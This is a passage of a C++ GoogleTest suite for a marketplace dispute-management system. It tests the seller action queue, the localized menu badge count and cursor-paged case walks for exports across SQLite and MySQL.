    for (const auto& r : conn->query("SELECT COUNT(*) FROM cases WHERE account_id = ? AND status IN (?, ?)",
                                     {kAccountB, std::string("pendente"), std::string("recebido")}))
        waitingB = r.getInt(0);
    const Listed queueB = tab(kSellerB, "view=acao");
    EXPECT_EQ(static_cast<std::int64_t>(queueB.ids.size()), waitingB);
    for (auto id : queueB.ids) EXPECT_EQ(byId(id, kAccountB).accountId, kAccountB);

    // Handled: a dispute that leaves pendente leaves the queue.
    ASSERT_TRUE(sac::storage::CaseRepository(*conn).setStatus(expected.front(), kAccountA, CaseStatus::Decisao,
                                                              host.now));
    const Listed after = tab(kSellerA, "view=acao");
    EXPECT_EQ(after.ids, std::vector<std::int64_t>(expected.begin() + 1, expected.end()));
}

TEST_P(ExportAndQueue, TheMenuBadgeCountsTheQueueOfTheUsersAccount) {
    std::int64_t waiting = 0;
    for (const auto& c : allOfA())
        if (sac::domain::inActionQueue(c)) ++waiting;
    const auto grouped = [](std::int64_t n, char sep) {
        std::string digits = std::to_string(n);
        for (int at = static_cast<int>(digits.size()) - 3; at > 0; at -= 3)
            digits.insert(static_cast<std::size_t>(at), 1, sep);
        return digits;
    };
    auto a = badge(kSellerA);
    ASSERT_TRUE(a);
    EXPECT_EQ(a->first, waiting);
    EXPECT_EQ(a->second, grouped(waiting, '.') + " disputas requerem ação");
    auto en = badge({12, kAccountA, "seller", "en"});
    ASSERT_TRUE(en);
    EXPECT_EQ(en->second, grouped(waiting, ',') + " disputes need action");
    EXPECT_EQ(badge(kAdminA)->first, waiting);
    auto b = badge(kSellerB);
    ASSERT_TRUE(b);
    EXPECT_LT(b->first, 40);
    EXPECT_NE(b->first, waiting);

    // No badge: another entry, nobody signed in, a role without sac.view, an
    // account with nothing waiting.
    EXPECT_FALSE(badge(kSellerA, "/sac/lost-found"));
    EXPECT_FALSE(badge({0, 0, "", "pt-BR"}));
    EXPECT_FALSE(badge(kGuestA));
    EXPECT_FALSE(badge({31, 3, "seller", "pt-BR"}));

    // One dispute left: the singular. The tab refreshes the count it shows,
    // and the menu of that same page shows the same number.
    sac::storage::CaseRepository repo(*conn);
    bool kept = false;
    for (const auto& r : conn->query("SELECT id FROM cases WHERE account_id = ? AND status IN (?, ?) ORDER BY id",
                                     {kAccountB, std::string("pendente"), std::string("recebido")})) {
        if (!kept) {
            kept = true;
            continue;
        }
        ASSERT_TRUE(repo.setStatus(r.getInt(0), kAccountB, CaseStatus::Fechado, host.now));
    }
    const Answer page = call(kSellerB, "/sac/");
    EXPECT_NE(page.body.find("id=\"sac-action-count\">1<"), std::string::npos);
    auto one = badge(kSellerB);
    ASSERT_TRUE(one);
    EXPECT_EQ(one->first, 1);
    EXPECT_EQ(one->second, "1 disputa requer ação");

    // The text fits the host's buffer: cut, NUL-terminated.
    sac_user user{12, kAccountA, "u", "e", "U", "seller", "pt-BR"};
    std::int64_t count = 0;
    char tiny[6];
    ASSERT_EQ(entry->menu_badge(&user, "/sac/", &count, tiny, sizeof tiny), SAC_OK);
    EXPECT_EQ(std::string(tiny).size(), 5u);
    EXPECT_EQ(entry->menu_badge(nullptr, "/sac/", &count, tiny, sizeof tiny), SAC_ERROR);
    EXPECT_EQ(entry->menu_badge(&user, nullptr, &count, tiny, sizeof tiny), SAC_ERROR);
    EXPECT_EQ(entry->menu_badge(&user, "/sac/", nullptr, tiny, sizeof tiny), SAC_ERROR);
}

TEST_P(ExportAndQueue, AWalkGivesTheListsCasesInItsOrderReadingEachRangeOnce) {
    sac::storage::CaseRepository repo(*conn);
    /// Every page of list(), following its cursors.
    const auto listed = [&](sac::storage::CaseFilter f) {
        std::vector<std::int64_t> ids;
        f.after.reset();
        for (int pages = 0; pages < 2000; ++pages) {
            auto page = repo.list(f);
            for (const auto& c : page.items) ids.push_back(c.id);
            if (!page.next) return ids;
            f.after = page.next;
        }
        ADD_FAILURE() << "too many pages";
        return ids;
    };
    /// The export's columns: the fields a CSV writes, as find() reads them.
    const auto sameForExport = [&](const sac::domain::Case& got) {
        const auto want = byId(got.id);
        EXPECT_EQ(got.storeId, want.storeId);
        EXPECT_EQ(got.kind, want.kind);
        EXPECT_EQ(got.marketplace, want.marketplace);
        EXPECT_EQ(got.status, want.status);
        EXPECT_EQ(got.externalId, want.externalId);
        EXPECT_EQ(got.orderId, want.orderId);
        EXPECT_EQ(got.subOrderId, want.subOrderId);
        EXPECT_EQ(got.productId, want.productId);
        EXPECT_EQ(got.productName, want.productName);
        EXPECT_EQ(got.cause, want.cause);
        EXPECT_EQ(got.marketplaceFineStatus, want.marketplaceFineStatus);
        EXPECT_EQ(got.wrongDeliverySolved, want.wrongDeliverySolved);
        EXPECT_EQ(got.deadlineAt, want.deadlineAt);
        EXPECT_EQ(got.amount, want.amount);
        EXPECT_EQ(got.groupId, want.groupId);
        EXPECT_EQ(got.needsReview, want.needsReview);
        EXPECT_EQ(got.amazonCaseId, want.amazonCaseId);
        EXPECT_EQ(got.units, want.units);
        EXPECT_EQ(got.estimate, want.estimate);
        EXPECT_EQ(got.reimbursed, want.reimbursed);
        EXPECT_EQ(got.marketplaceCreatedAt, want.marketplaceCreatedAt);
    };
    const auto walked = [&](const sac::storage::CaseFilter& f, int pageRows,
                            sac::storage::CaseColumns columns = sac::storage::CaseColumns::List) {
        std::vector<std::int64_t> ids;
        sac::storage::CaseWalk walk(f, pageRows, columns);
        for (int pages = 0; pages < 5000; ++pages) {
            auto page = walk.next(*conn);
            EXPECT_LE(page.size(), static_cast<std::size_t>(pageRows));
            if (page.empty()) return ids;
            for (const auto& c : page) {
                ids.push_back(c.id);
                // Spot checks: every 97th case read with the export's columns.
                if (columns == sac::storage::CaseColumns::Export && c.id % 97 == 0) sameForExport(c);
            }
        }
        ADD_FAILURE() << "too many pages";
        return ids;
    };
    using sac::storage::CaseOrder;
    std::vector<std::pair<std::string, sac::storage::CaseFilter>> filters;
    for (auto order : {CaseOrder::Oldest, CaseOrder::Newest, CaseOrder::Deadline}) {
        sac::storage::CaseFilter f;
        f.accountId = kAccountA;
        f.order = order;
        const std::string o = order == CaseOrder::Oldest ? "oldest" : order == CaseOrder::Newest ? "newest" : "deadline";
        filters.emplace_back(o + ", everything", f);
        auto amazon = f;
        amazon.marketplace = sac::domain::Marketplace::Amazon; // three kinds: three ranges
        filters.emplace_back(o + ", Amazon", amazon);
        amazon.openOnly = true;
        filters.emplace_back(o + ", Amazon open", amazon);
        amazon.openOnly = false;
        amazon.status = CaseStatus::Reembolsado;
        filters.emplace_back(o + ", Amazon reimbursed", amazon);
        auto ali = f;
        ali.marketplace = sac::domain::Marketplace::AliExpress;
        ali.anyStatus = sac::domain::statusesAwaitingSeller();
        filters.emplace_back(o + ", the action queue", ali);
        auto kind = f;
        kind.kind = sac::domain::CaseKind::Dispute;
        // Every store's disputes: MariaDB walks the deadline order one store at a time.
        filters.emplace_back(o + ", the disputes", kind);
        kind.storeId = southA;
        filters.emplace_back(o + ", a store's disputes", kind);
        auto lostFound = f;
        lostFound.kind = sac::domain::CaseKind::LostInventory;
        filters.emplace_back(o + ", one kind of Lost & Found", lostFound);
    }
    for (const auto& [what, f] : filters) {
        const auto expected = listed(f);
        for (int rows : {1, 7, 1000}) EXPECT_EQ(walked(f, rows), expected) << what << ", " << rows << " a page";
        EXPECT_EQ(walked(f, 300, sac::storage::CaseColumns::Export), expected) << what << ", the export's columns";
    }
    // Another account's walk is its own.
    sac::storage::CaseFilter b;
    b.accountId = kAccountB;
    b.marketplace = sac::domain::Marketplace::Amazon;
    EXPECT_TRUE(walked(b, 10).empty());
    b.marketplace.reset();
    for (auto id : walked(b, 10)) EXPECT_EQ(byId(id, kAccountB).accountId, kAccountB);
}

INSTANTIATE_TEST_SUITE_P(Dialects, ExportAndQueue, testing::Values(Dialect::SQLite, Dialect::MySQL),
                         sac::test::DialectName());
